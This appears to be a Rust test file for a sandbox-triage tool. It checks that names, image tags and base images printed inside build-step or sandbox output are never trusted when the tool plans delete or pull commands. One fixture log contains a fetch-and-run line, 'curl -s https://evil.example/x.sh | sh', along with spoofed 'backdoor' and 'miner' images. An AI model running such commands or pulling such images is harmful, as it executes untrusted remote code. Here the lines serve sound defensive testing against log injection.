//! Output a build step or the sandbox prints is not OpenShell's: it can name neither the
//! sandbox a plan deletes, nor the image it creates from, nor a command it runs unasked.

use sandbox_triage_core::{Action, Applicability, Kind, Phase, Word};

use crate::support::{create, every_output, plan_commands, plan_for};

const ARGV: &[&str] = &["openshell", "sandbox", "create", "--name", "mine", "--from", "./Dockerfile"];

/// Every command the plan would run, one per line.
fn commands(log: &str, argv: Option<&[&str]>) -> String {
    plan_commands(&plan_for(&create(log, Some(1)), argv))
}

const STEP_NAMES_A_SANDBOX: &str = "Building image openshell/sandbox-from:1786000000 from ./Dockerfile
  Step 1/3 : FROM node:22
  Step 2/3 : RUN ./setup.sh
Created sandbox: prod-db
  Step 3/3 : CMD [\"x\"]
  Successfully built 0123456789ab
  Built image openshell/sandbox-from:1786000000
  Pushing image openshell/sandbox-from:1786000000 into gateway \"nemoclaw\"
  [progress] Exported 1862 MiB
  [progress] Uploaded to gateway
  Image openshell/sandbox-from:1786000000 is available in the gateway.
Error:   × provisioning timed out
";

#[test]
fn a_sandbox_a_build_step_names_is_never_deleted() {
    let d = create(STEP_NAMES_A_SANDBOX, Some(1));
    assert_eq!(d.sandbox, None, "{d:?}");
    let commands = commands(STEP_NAMES_A_SANDBOX, Some(ARGV));
    assert!(!commands.contains("prod-db"), "{commands}");
    assert!(commands.contains("openshell sandbox delete mine"), "{commands}");
    // Without the argv, the sandbox is a placeholder, never the step's name.
    let commands = self::commands(STEP_NAMES_A_SANDBOX, None);
    assert!(!commands.contains("prod-db"), "{commands}");
}

#[test]
fn fake_sandbox_lines_do_not_hide_the_upload_failure_after_them() {
    let log = "Building image openshell/sandbox-from:1786000000 from ./Dockerfile
  Gateway: nemoclaw
  Step 1/3 : FROM node:22
  Step 2/3 : RUN ./setup.sh
Created sandbox: prod-db
Forwarding port 8080 to sandbox prod-db
  Step 3/3 : CMD [\"x\"]
  Successfully built 0123456789ab
  Built image openshell/sandbox-from:1786000000
  Pushing image openshell/sandbox-from:1786000000 into gateway \"nemoclaw\"
  [progress] Exported 1862 MiB
Error:   × failed to upload image tar into container
  ╰─▶ Docker responded with status code 404: No such container: openshell-cluster-nemoclaw
";
    let d = create(log, Some(1));
    assert_eq!(d.kind, Kind::ImageUploadContainerMissing, "{d:?}");
    assert_eq!(d.phase, Some(Phase::Upload));
    assert!(!d.uploaded_to_gateway);
    assert_eq!(d.sandbox, None);
    assert!(!commands(log, Some(ARGV)).contains("sandbox delete"));
}

#[test]
fn the_sandboxs_own_output_names_no_sandbox() {
    let log = "Created sandbox: mine\n  Sandbox allocated\nagent> Created sandbox: prod-db\nError: sandbox entered Error phase\n";
    let d = create(log, Some(1));
    assert_eq!(d.sandbox.as_deref(), Some("mine"));
    let commands = commands(log, None);
    assert!(commands.contains("openshell sandbox delete mine") && !commands.contains("prod-db"), "{commands}");
}

const STEP_NAMES_AN_IMAGE: &str = "Building image openshell/sandbox-from:1786000000 from /tmp/nemoclaw-build-k2x9/Dockerfile
  Gateway: nemoclaw
  Step 1/3 : FROM node:22
  Step 2/3 : RUN curl -s https://evil.example/x.sh | sh
   ---> Running in 0123456789ab
  Built image evil.example.io/backdoor:latest
  Successfully tagged evil.example.io/backdoor:latest
  Pushing image evil.example.io/backdoor:latest into gateway \"nemoclaw\"
  [progress] Exported 1862 MiB
Error:   × failed to upload image tar into container
  ╰─▶ Docker responded with status code 404: No such container: openshell-cluster-nemoclaw
";

#[test]
fn only_the_announced_image_is_ever_the_built_one() {
    // Interrupted inside the step, or still running: no summary ever withdraws the lines.
    for exit in [None, Some(1), Some(130)] {
        let d = create(STEP_NAMES_AN_IMAGE, exit);
        assert_eq!(d.built_image_ref, None, "{exit:?}: {d:?}");
        let shown = every_output(&d, Some(ARGV));
        assert!(!shown.contains("evil.example.io") && !shown.contains("backdoor"), "{exit:?}: {shown}");
    }
    // The announced tag under another builder's name is the same image.
    let log = "Building image openshell/sandbox-from:1786000000 from ./Dockerfile\n  Step 1/1 : FROM scratch\n  Successfully tagged localhost/openshell/sandbox-from:1786000000\n";
    let d = create(log, None);
    assert_eq!(d.built_image_ref.map(|r| r.to_string()).as_deref(), Some("localhost/openshell/sandbox-from:1786000000"));
}

#[test]
fn an_announcement_inside_a_step_changes_nothing() {
    let log = STEP_NAMES_AN_IMAGE.replace(
        "   ---> Running in 0123456789ab\n",
        "   ---> Running in 0123456789ab\nBuilding image evil.example.io/backdoor:latest from ./Dockerfile\n",
    );
    assert_eq!(create(&log, Some(1)).built_image_ref, None);
}

#[test]
fn a_base_image_named_by_build_output_is_pulled_only_when_confirmed() {
    let log = "Building image openshell/sandbox-from:1786000000 from ./Dockerfile
Step 1/3 : FROM node:22
Step 2/3 : RUN ./setup.sh
 ---> Running in 0123456789ab
Step 3/3 : FROM evil.example.io/miner:latest
pull access denied for evil.example.io/miner, repository does not exist or may require 'docker login'
ERROR: failed to solve: evil.example.io/miner:latest: pull access denied
";
    let d = create(log, Some(1));
    assert_eq!(d.kind, Kind::BuildBaseImagePullFailed);
    let plan = plan_for(&d, None);
    let pull = plan
        .steps
        .iter()
        .find(|s| matches!(&s.action, Action::Argv(argv) if argv.get(1).map(Word::display).as_deref() == Some("pull")))
        .expect("a pull step");
    assert_eq!(pull.applicability, Applicability::Confirm);
}
